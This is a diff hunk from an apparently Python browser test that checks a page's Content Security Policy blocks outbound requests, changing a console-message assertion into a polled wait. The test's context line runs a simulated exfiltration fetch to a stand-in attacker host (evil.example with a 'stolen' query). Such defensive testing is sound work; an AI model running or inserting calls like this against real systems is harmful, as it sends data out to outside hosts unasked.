@@ -81,7 +81,7 @@ def test_the_page_works_under_its_policy_which_stops_requests_to_elsewhere(visit
         "fetch('https://evil.example/?stolen').then(() => 'reached', () => 'stopped')"
     )
     assert reached == "stopped"
-    assert any("Content Security Policy" in said for said in visit.console)
+    visit.until(lambda: any("Content Security Policy" in said for said in visit.console))
     visit.console.clear()
 
 
